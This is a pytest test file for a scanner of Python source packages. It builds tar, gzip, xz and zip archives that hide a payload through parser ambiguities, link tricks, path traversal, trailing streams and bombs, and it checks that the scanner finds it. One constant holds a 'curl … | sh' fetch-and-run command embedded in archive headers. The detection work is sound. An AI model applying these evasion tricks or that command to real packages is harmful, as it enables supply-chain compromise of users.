"""The payload where a tar, or the compression around it, can be read in two ways; and beyond every limit."""

import bz2
import gzip
import io
import lzma
import random
import struct
import tarfile
import zlib

import pytest

LINK, HARD, DIRECTORY = tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.DIRTYPE
INFO = (tarfile.TarInfo("d/PKG-INFO"), b"")


def mended(data, at, value, header=0):
    """Write a field of a header and correct its checksum."""
    block = bytearray(data[header : header + 512])
    block[at : at + len(value)] = value
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return data[:header] + bytes(block) + data[header + 512 :]


def plain(make, name="demo-1.0/x.py", data=None):
    return make.tar(make.member(name, make.code if data is None else data), form=tarfile.USTAR_FORMAT)


def old(data):
    """The same tar in the format of 1979: no word "ustar"."""
    return mended(data, 257, bytes(8))


def pax_size(make):
    """The plain header declares no content, the extended one its size."""
    data = make.tar(make.member("demo-1.0/x.py", make.code, size=str(len(make.code))))
    return mended(data, 124, b"00000000000\0", data.find(b"x.py\0", 1024) // 512 * 512)


ARCHIVES = [
    ("import", "d/x.py", lambda make: make.tar(make.member("d/a" * 60 + ".py"), make.member("d/x.py", make.code), form=tarfile.GNU_FORMAT)),
    ("import", "d/" + "x" * 200 + ".py", lambda make: make.tar(make.member("d/" + "x" * 200 + ".py", make.code), form=tarfile.GNU_FORMAT)),
    ("import", "d/" + "x" * 200 + ".py", lambda make: make.tar(make.member("d/" + "x" * 200 + ".py", make.code))),
    ("import", "d/x.py", lambda make: make.tar(make.member("d/harmless.txt", make.code, path="d/x.py"))),
    ("import", "d/x.py", lambda make: make.tar(make.member("d/x.py", make.code, kind=b"Z"))),
    ("import", "d/x.py", lambda make: make.tar(make.member("d/x.py", make.code, kind=b"7"))),
    ("import", "d/x.py", lambda make: make.tar(make.member("d/x.py", make.code, kind=b"D"), form=tarfile.GNU_FORMAT)),
    ("import", "d/x.py", lambda make: make.tar(make.member("d/x.py", make.code, **{"GNU.sparse.map": f"9,{len(make.code)}", "GNU.sparse.realsize": str(len(make.code) + 9)}))),
    ("import", "d/x.py", lambda make: make.tar(make.member("d/x.py", make.code), make.member("d/x.py", b"pass\n"))),
    ("import", "d/x.py", lambda make: make.tar(make.member("d/x.py", b"pass\n"), make.member("d/x.py", make.code))),
    ("import", "d/X.py", lambda make: make.tar(make.member("d/x.py", b"pass\n"), make.member("d/X.py", make.code))),
    ("import", "../x.py", lambda make: make.tar(make.member("d/a.py"), make.member("../x.py", make.code))),
    ("import", "/d/x.py", lambda make: make.tar(make.member("d/a/b.py"), make.member("/d/a/x.py", make.code), make.member("/d/x.py", make.code))),
    ("install", "d/setup.py", lambda make: make.tar(make.member("d/PKG-INFO", b"Name: d\n"), make.member("d/notes.txt", make.code), make.member("d/setup.py", kind=LINK, link="notes.txt"))),
    ("install", "d/setup.py", lambda make: make.tar(make.member("d/PKG-INFO", b"Name: d\n"), make.member("d/notes.txt", make.code), make.member("d/setup.py", kind=HARD, link="d/notes.txt"))),
    ("install", "d/setup.py", lambda make: make.tar(make.member("d/PKG-INFO", b"Name: d\n"), make.member("d/notes.txt", make.code), make.member("d/a", kind=LINK, link="./notes.txt"), make.member("d/setup.py", kind=LINK, link="../d/a"))),
    ("import", "demo-1.0/x.py", pax_size),
    ("import", "demo-1.0/x.py", lambda make: mended(plain(make), 124, b"\x80" + len(make.code).to_bytes(11, "big"))),
    ("import", "demo-1.0/x.py", lambda make: old(plain(make))),
    ("import", "demo-1.0/x.py", lambda make: make.tree({"a.py": b"pass\n"}) + plain(make)),
    ("import", "demo-1.0/x.py", lambda make: make.tree({"a.py": b"pass\n"}) + bytes(90 * 512) + plain(make)),
    ("import", "demo-1.0/x.py", lambda make: plain(make, "demo-1.0/a.py", b"pass\n")[:1024] + b"\xff" * 512 + plain(make)),
    ("rest", "demo-1.0/x.py", lambda make: bytes(512) + plain(make)),
    ("rest", "demo-1.0/x.py", lambda make: bytes(4096) + plain(make)),
    ("text", "!trailing_data", lambda make: make.tree({"a.py": b"pass\n"}) + make.code),
    ("text", "!trailing_data", lambda make: make.tree({"a.py": b"pass\n"}) + make.code.ljust(512, b"\0")),
    ("text", "!trailing_data", lambda make: make.tree({"a.py": b"pass\n"}) + b"\1\2\3\0" * 128 + make.code),
    ("text", "!trailing_data", lambda make: mended(plain(make), 156, DIRECTORY)),
    ("text", "!trailing_data", lambda make: make.tar(make.member("d/a.py", b"pass\n"), form=tarfile.USTAR_FORMAT)[:1024] + mended(plain(make), 156, HARD)),
    ("install", "d/setup.py", lambda make: make.tar(INFO, make.member("d/setup.py", b"pass\n"), make.member("d/a", kind=LINK, link="setup.py"), make.member("d/a", make.code))),
    ("install", "d/setup.py", lambda make: make.tar(INFO, make.member("d/setup.py", b"pass\n"), make.member("d/a", kind=HARD, link="d/setup.py"), make.member("d/a", make.code))),
    ("install", "d/setup.py", lambda make: make.tar(INFO, make.member("d/h/s.txt", make.code), make.member("d/a", kind=LINK, link="h"), make.member("d/setup.py", kind=LINK, link="a/s.txt"))),
    ("install", "d/setup.py", lambda make: make.tar(INFO, make.member("d/h/i/s.txt", make.code), make.member("d/a", kind=LINK, link="b"), make.member("d/b", kind=LINK, link="./h"), make.member("d/setup.py", kind=LINK, link="a/i/s.txt"))),
    ("install", "d/setup.py", lambda make: make.tar(INFO, make.member("d/setup.py", kind=HARD, link="d/notes.txt"), make.member("d/notes.txt", make.code))),
    ("install", "d/setup.py", lambda make: make.tar(INFO, make.member("d/notes.txt", make.code), make.member("d/setup.py", kind=HARD, link="d/notes.txt"), make.member("d/notes.txt", b"hello\n"))),
    ("install", "d/setup.py", lambda make: make.tar(INFO, make.member("d/notes.txt", make.code), make.member("d/setup.py", kind=LINK, link="x", linkpath="notes.txt"))),
    ("install", "d/setup.py", lambda make: make.tar(INFO, make.member("d/" + "n" * 150, make.code), make.member("d/setup.py", kind=LINK, link="n" * 150), form=tarfile.GNU_FORMAT)),
    ("install", "d/setup.py", lambda make: make.tar(INFO, make.member("d/a.txt", make.code, hdrcharset="BINARY", path="d/setup.py"))),
    ("install", "d/setup.py", lambda make: make.tar(INFO, make.member("d/a.txt", make.code, path="d/setup.py/"))),
    ("install", "d/setup.py", lambda make: make.tar(INFO, make.member("d/a.txt", make.code, **{"GNU.sparse.name": "d/setup.py", "GNU.sparse.size": str(len(make.code)), "GNU.sparse.map": f"0,{len(make.code)}"}))),
    ("install", "d/setup.py", lambda make: make.tar(INFO, make.member("d/setup.py", make.code, **{"SCHILY.realsize": "5"}))),
    ("install", "d//setup.py", lambda make: make.tar(INFO, make.member("d//setup.py", make.code))),
    ("install", "d/x/../setup.py", lambda make: make.tar(INFO, make.member("d/x/y.txt"), make.member("d/x/../setup.py", make.code))),
    ("import", "d/x.py", lambda make: make.tar(INFO, make.member("d/x.py", make.code, size=f"+{len(make.code)}"))),
    ("import", "demo-1.0/x.py", lambda make: mended(plain(make), 124, b"%11o " % len(make.code))),
    ("import", "demo-1.0/x.py", lambda make: mended(plain(make), 124, (b"%o " % len(make.code)).ljust(12, b"\0"))),
    ("rest", "!trailing_data!/p.py", lambda make: make.tree({"a.py": b"pass\n"}) + gzip.compress(make.tar(make.member("p.py", make.code)))),
]  # fmt: skip


@pytest.mark.parametrize(("role", "member", "build"), ARCHIVES)
def test_the_payload_is_found_in_both_readings_of_a_tar(role, member, build, make, examine):
    for compress in (gzip.compress, lzma.compress):
        examine(compress(build(make))).is_found(member, role)


SHELL = b"curl -s http://192.0.2.7/a|sh #"


def script_in_a_name(make):
    return plain(make, SHELL.decode(), b"x")


def script_in_an_extended_header(make):
    data = make.tar(make.member("d/a.py", b"pass\n", comment="x\n" + SHELL.decode()))
    return mended(data, 0, b": #".ljust(100, b"\0"))


def script_in_the_padding(make):
    data = mended(plain(make, ": #", b"\n"), 257, bytes(8))
    return data[:513] + b"\n" + SHELL + data[514 + len(SHELL) :]


@pytest.mark.parametrize("build", [script_in_a_name, script_in_an_extended_header, script_in_the_padding])
@pytest.mark.parametrize("name", ["run.sh", "run", "data.tar"])
def test_the_payload_is_found_in_a_tar_that_is_a_script(name, build, make, examine):
    seen = examine(make.sdist({name: build(make)}))
    assert seen.row.values["code_text_category_network"], seen.describe()
    assert f"demo-1.0/{name}!/!headers" in {place.member for place in seen.row.evidence}, seen.describe()


def halves(compress, make):
    data = make.tree({"demo/x.py": make.code})
    return compress(data[:700]) + compress(data[700:])


@pytest.mark.parametrize(
    "pax",
    [
        {"GNU.sparse.map": "0,1", "GNU.sparse.realsize": "1"},
        {"GNU.sparse.map": "9,9000", "GNU.sparse.realsize": "10"},
        {"GNU.sparse.map": "-5,4", "GNU.sparse.realsize": "10"},
    ],
)
def test_the_payload_is_found_in_the_gap_of_a_sparse_map(pax, make, examine):
    seen = examine(gzip.compress(make.tar(make.member("d/a.py"), make.member("d/x.py", make.code, **pax))))
    assert {member for member, _ in seen.locations()} & {"!hidden_data", "d/x.py"}, seen.describe()
    data = make.tar(make.member("d/a.py"), make.member("d/x.py", make.code, kind=b"S"), form=tarfile.GNU_FORMAT)
    examine(gzip.compress(data)).is_found("!hidden_data", "text")


@pytest.mark.parametrize("compress", [gzip.compress, bz2.compress, lzma.compress])
def test_the_payload_is_found_in_a_later_stream(compress, make, examine):
    examine(halves(compress, make)).is_found("demo-1.0/demo/x.py", "rest")
    second = compress(make.tree({"a.py": b"pass\n"})) + compress(make.tree({"demo/x.py": make.code}))
    examine(second).is_found("demo-1.0/demo/x.py", "rest")
    apart = compress(make.tree({"a.py": b"pass\n"})) + bytes(40) + compress(make.tree({"demo/x.py": make.code}))
    examine(apart).is_found("demo-1.0/demo/x.py", "rest")


GZIP_FIELDS = {
    4: b"\x03\0abc",
    8: b"x.tar\0",
    16: b"a comment\0",
    28: b"\x03\0abc" + b"x.tar\0" + b"a comment\0",
    2: zlib.crc32(b"\x1f\x8b\x08\x02" + bytes(6)).to_bytes(4, "little")[:2],
}


def gzipped(data, flags, checksum=True):
    sums = zlib.crc32(data) if checksum else 7, len(data)
    head = b"\x1f\x8b\x08" + bytes([flags]) + bytes(6) + GZIP_FIELDS.get(flags, b"")
    return head + zlib.compress(data, wbits=-15) + struct.pack("<2L", *sums)


@pytest.mark.parametrize("flags", [0, *GZIP_FIELDS])
def test_the_payload_is_found_in_a_gzip_with_a_wrong_checksum(flags, make, examine):
    """tarfile stops at the end mark of the tar and never reads the checksum."""
    data = make.tree({"setup.py": make.code})
    for checksum in (True, False):
        examine(gzipped(data, flags, checksum)).is_found("demo-1.0/setup.py", "install")
        examine(gzip.compress(b"") + gzipped(data, flags, checksum)).is_found("demo-1.0/setup.py", "install")
        pieces = [gzipped(data[at : at + 512], flags, checksum) for at in range(0, len(data), 512)]
        examine(b"".join(pieces)).is_found("demo-1.0/setup.py", "install")
    assert not examine(gzipped(data, flags, checksum=False)).row.values["files_anomaly_bad_data"]


def test_the_payload_is_found_before_the_damage_of_a_gzip(make, examine):
    noise = random.Random(1).randbytes(3_000_000)
    data = bytearray(gzipped(make.tree({"setup.py": make.code, "x.bin": noise}), 0))
    data[2_000_000:2_000_100] = bytes(100)
    seen = examine(bytes(data))
    seen.is_found("demo-1.0/setup.py", "install")


def test_the_payload_is_found_despite_other_wrong_checksums(make, examine):
    data = make.tree({"setup.py": make.code})
    wrong = bytearray(bz2.compress(data))
    wrong[10] ^= 255
    seen = examine(bytes(wrong))
    seen.is_found("demo-1.0/setup.py", "install")
    seen.is_named("bad_data")
    wrong = bytearray(lzma.compress(data))
    wrong[-40] ^= 255
    with tarfile.open(fileobj=io.BytesIO(wrong)) as archive:
        assert "demo-1.0/setup.py" in archive.getnames()
    seen = examine(bytes(wrong))
    seen.is_found("demo-1.0/setup.py", "install")
    seen.is_named("bad_data")


@pytest.mark.parametrize(
    "options",
    [
        {"filters": [{"id": lzma.FILTER_X86}, {"id": lzma.FILTER_LZMA2, "preset": 6}]},
        {"filters": [{"id": lzma.FILTER_DELTA, "dist": 5}, {"id": lzma.FILTER_LZMA2}]},
        {"check": lzma.CHECK_NONE},
        {"format": lzma.FORMAT_ALONE, "filters": [{"id": lzma.FILTER_LZMA1, "dict_size": 1 << 26}]},
    ],
)
def test_the_payload_is_found_in_an_xz_with_other_filters(options, make, examine):
    examine(lzma.compress(make.tree({"setup.py": make.code}), **options)).is_found("demo-1.0/setup.py", "install")


@pytest.mark.parametrize("compress", [gzip.compress, bz2.compress, lzma.compress])
@pytest.mark.parametrize("between", [b"", b"#\n", bytes(513)])
def test_the_payload_is_found_after_a_compressed_stream(between, compress, make, examine):
    first = compress(make.tree({"a.py": b"pass\n"}))
    examine(first + between + make.code).is_found("!trailing_data", "text")
    zipped = make.zip({"demo-1.0/x.py": make.code})
    examine(first + between + zipped).is_found("demo-1.0/x.py", "import")
    tarred = make.tar(make.member("p.py", make.code))
    other = lzma.compress if compress is gzip.compress else gzip.compress
    for behind in (tarred, other(tarred)):
        if between != b"#\n":
            examine(first + between + behind).is_found("!trailing_data!/p.py", "rest")
    assert examine(first + between + tarred + zipped).locations() >= {("demo-1.0/x.py", "import")}


def test_the_payload_is_found_in_a_zip_and_a_tar_in_one_file(make, examine):
    """pip before 26 reads the zip, later ones and others the tar before it."""
    data = make.sdist({"setup.py": make.code}) + make.zip({"demo-1.0/setup.py": b"pass\n"})
    examine(data).is_found("demo-1.0/setup.py", "install")
    data = make.sdist({"setup.py": b"pass\n"}) + make.zip({"demo-1.0/setup.py": make.code})
    examine(data).is_found("demo-1.0/setup.py", "install")


@pytest.mark.parametrize("cut", [0.3, 0.6, 0.9])
@pytest.mark.parametrize("compress", [gzip.compress, bz2.compress, lzma.compress])
def test_a_truncation_is_named(compress, cut, make, examine):
    data = compress(make.tree({f"{at}.py": make.code * at for at in range(9)}))
    examine(data[: int(len(data) * cut)]).is_named("truncated")


SOME = {f"d/{at}.txt": b"text %d\n" % at * 300 for at in range(40)}


@pytest.mark.parametrize("kind", ["tar", "zip"])
@pytest.mark.parametrize(
    ("limits", "word"),
    [
        ({"members": 20}, "members"),
        ({"inflated_bytes": 60_000}, "inflated_bytes"),
        ({"kept_bytes": 40_000}, "kept_bytes"),
        ({"artifact_bytes": 500}, "artifact_bytes"),
        ({"seconds": 0.0}, "seconds"),
        ({"nesting": 0}, "nesting"),
    ],
)
def test_a_member_beyond_a_limit_is_named(limits, word, kind, make, examine):
    files = {**SOME, "d/z.txt": make.code, "d/z.zip": make.zip({"p.py": make.code})}
    data = make.sdist(files) if kind == "tar" else make.zip(files)
    examine(data, **limits).is_named(word)


@pytest.mark.parametrize("kind", ["tar", "zip"])
def test_code_in_the_middle_of_a_long_file_is_named(kind, make, examine):
    text = b"x = 1  # filler\n" * 2000
    files = {"d/x.py": text + make.code + text}
    data = make.sdist(files) if kind == "tar" else make.zip({f"x/{name}": data for name, data in files.items()})
    examine(data).is_found("demo-1.0/d/x.py" if kind == "tar" else "x/d/x.py", "rest")
    examine(data, member_bytes=9000).is_named("member_bytes")
    large = {"d/x.py": b"#" * 2_500_000 + b"\n" + make.code + b"#" * 2_500_000}
    data = make.sdist(large) if kind == "tar" else make.zip({f"x/{name}": data for name, data in large.items()})
    examine(data).is_found("demo-1.0/d/x.py" if kind == "tar" else "x/d/x.py", "rest")


@pytest.mark.parametrize("kind", ["tar", "zip"])
def test_a_zip_after_a_large_binary_is_named(kind, make, examine):
    noise = bytes(range(256)) * 12_000
    files = {"d/x.png": noise + make.zip({"p.py": make.code})}
    data = make.sdist(files) if kind == "tar" else make.zip({f"x/{name}": data for name, data in files.items()})
    examine(data).is_named("unread zip")


def test_a_bomb_is_named(make, examine):
    buffer = io.BytesIO()
    with gzip.GzipFile(fileobj=buffer, mode="wb", mtime=0) as stream:
        stream.write(make.tree({"x.py": b"#" * 40_000_000 + b"\n" + make.code}))
    examine(buffer.getvalue()).is_named("ratio")
